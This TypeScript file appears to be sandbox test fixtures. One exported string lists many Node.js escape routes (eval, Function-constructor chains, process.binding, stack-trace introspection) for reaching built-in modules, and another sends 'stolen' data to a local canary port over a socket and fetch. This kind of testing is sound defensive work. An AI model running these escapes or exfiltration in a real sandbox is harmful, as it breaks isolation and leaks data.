/** Code with which a remote looks for a way out of its process. */

/** Any way to a built-in module that somebody who is not meant to have one may think of. */
export const BUILTIN = `
  const ways = [
    (name) => import('node:' + name),
    (name) => globalThis.process.getBuiltinModule('node:' + name),
    (name) => (0, eval)('require')(name),
    (name) => (0, eval)('import("node:' + name + '")'),
    (name) => new Function('return process')().getBuiltinModule(name),
    (name) => globalThis.__sinimaShared.react.useState.constructor('return process')().getBuiltinModule(name),
    (name) => globalThis.__sinimaShared['@sinima/runtime'].useQuery.constructor('return process')().getBuiltinModule(name),
    (name) => setTimeout.constructor('return this')().process.getBuiltinModule(name),
    (name) => setTimeout(() => undefined).constructor.constructor('return process')().mainModule.require(name),
    (name) => globalThis.process.binding(name),
    (name) => globalThis.global.process.mainModule.require(name),
    (name) => {
      const former = Error.prepareStackTrace;
      Error.prepareStackTrace = (_error, sites) => sites;
      const found = new Error().stack.map((site) => { try { return site.getThis() ?? site.getFunction(); } catch {} });
      Error.prepareStackTrace = former;
      return found.find((each) => each?.constructor)?.constructor.constructor('return process')().getBuiltinModule(name);
    },
  ];
  const builtin = async (name) => {
    for (const way of ways) {
      try {
        const found = await Promise.race([way(name), new Promise((_, fail) => setTimeout(fail, 100))]);
        if (found) return found.default ?? found;
      } catch {}
    }
    return undefined;
  };
  const attempt = async (action) => { try { return await action(); } catch { return undefined; } };
`;

/** Tell the world what was found, by every way out. */
export const TELL = `
  const tell = async (found) => {
    const words = Object.values(found).filter((each) => each !== undefined);
    if (words.length === 0) return;
    globalThis.stolen = JSON.stringify(found);
    const net = await builtin('net');
    await attempt(() => { const socket = net.connect(canary.port, '127.0.0.1', () => socket.end('GET /' + encodeURIComponent(globalThis.stolen.slice(0, 500)) + ' HTTP/1.1\\r\\nHost: x\\r\\nConnection: close\\r\\n\\r\\n')); socket.on('error', () => undefined); });
    await attempt(() => fetch('http://127.0.0.1:' + canary.port + '/' + encodeURIComponent(globalThis.stolen.slice(0, 500))));
  };
`;
